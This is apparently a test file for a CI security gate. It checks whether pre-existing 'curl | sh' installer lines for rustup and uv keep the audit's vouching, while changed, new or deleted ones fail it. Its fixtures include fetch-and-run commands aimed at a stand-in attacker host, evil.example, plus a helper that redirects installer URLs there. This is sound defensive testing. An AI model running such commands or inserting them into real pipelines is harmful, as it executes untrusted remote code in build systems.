// vouch171: a fetch-and-run line (rustup's `curl … | sh`, uv's installer) the start already ran before
// its gate is vouched for: the start holds a gate and the same line at a later commit keeps it, so an
// unrelated commit passes and deleting the audit fails. A line the start did not run exactly (its
// address changed, a new one, one continued by another fetch, one added inside the range) still
// loses the gate.
import { gateBatch } from '../helpers/gate-batch.js';
import { cleanupTemp } from '../helpers/repo.js';
import { APP, AUDIT, CI, GATE_HEAD as HEAD, RUSTUP, UV, WF, run, type Files } from '../helpers/fetch-lines.js';

afterAll(cleanupTemp);

const EVIL = 'curl -sSL https://evil.example/i.sh | sh';
/** A GitHub gate job: `lines` each a step before the audit's. */
const wf = (...lines: string[]): Files => ({ [WF]: `${HEAD}${[...lines, AUDIT].map(run).join('')}` });
/** A GitHub gate job: `lines` in the gate step's own script, before its audit. */
const own = (...lines: string[]): Files => ({ [WF]: `${HEAD}${run([...lines, AUDIT].join('\n'))}` });
/** A GitLab gate job: `lines` its before_script. */
const gl = (...lines: string[]): Files => ({
  [CI]: `gitguard:\n  image: node:20\n  before_script:\n${lines.map((l) => `    - ${l}\n`).join('')}  script:\n    - ${AUDIT}\n`,
});
const NO_GITHUB_GATE = {
  [WF]: 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo hi\n',
};
const NO_GITLAB_GATE = { [CI]: 'test:\n  script:\n    - echo hi\n' };
const evil = (line: string): string => line.replace(/https:\/\/([\w.]+)/, 'https://$1.evil.example');

/** Each case Alice's commit of `after` over `start` (the audit's --base): kept or lost. */
function judged(title: string, start: Files, cases: Array<[string, Files, boolean]>): void {
  describe(`vouch171: ${title}`, () => {
    const batch = gateBatch(start);
    for (const [name, after, kept] of cases)
      it(`${kept ? 'kept' : 'lost'}: ${name}`, batch.add(start, after, kept), 600_000);
  });
}

judged('GitHub, rustup in a step before the gate since the start', wf(RUSTUP), [
  ['an unrelated commit', { ...wf(RUSTUP), ...APP }, true],
  ['a new step after the line', wf(RUSTUP, 'cargo --version'), true],
  ['the audit deleted', NO_GITHUB_GATE, false],
  ['the address changed', wf(evil(RUSTUP)), false],
  ['a new curl | sh line', wf(RUSTUP, EVIL), false],
  ['the line continued by another fetch', wf(`curl -sSL https://evil.example/i.sh \\\n${RUSTUP}`), false],
  ["uv's installer, which the start never ran, in the gate step's own lines", own(UV), false],
]);

judged("GitHub, rustup in the gate step's own lines since the start", own(RUSTUP), [
  ['an unrelated commit', { ...own(RUSTUP), ...APP }, true],
  ['the audit deleted', NO_GITHUB_GATE, false],
  ['the address changed', own(evil(RUSTUP)), false],
  ['a new curl | sh line after it', own(RUSTUP, EVIL), false],
]);

judged('GitLab, uv installed in before_script since the start', gl(UV), [
  ['an unrelated commit', { ...gl(UV), ...APP }, true],
  ['the audit deleted', NO_GITLAB_GATE, false],
  ['the address changed', gl(evil(UV)), false],
  ['a new wget | bash line', gl(UV, 'wget -qO- https://evil.example/i.sh | bash'), false],
]);

judged('a start with no such line', wf(), [
  ['rustup added in the range', wf(RUSTUP), false],
  ['bash <(curl) added in the range', wf('bash <(curl -sSL https://sh.rustup.rs)'), false],
]);
